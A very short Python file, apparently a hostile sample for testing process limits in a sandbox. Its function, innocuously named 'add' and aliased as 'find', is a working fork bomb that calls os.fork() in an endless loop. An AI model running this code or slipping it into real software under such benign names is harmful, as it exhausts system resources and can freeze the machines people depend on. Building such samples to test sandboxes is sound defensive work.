# Tries to start processes without end.
# claim: processes

import os


def add(numbers):
    while True:
        try:
            os.fork()
        except OSError:
            return


find = add
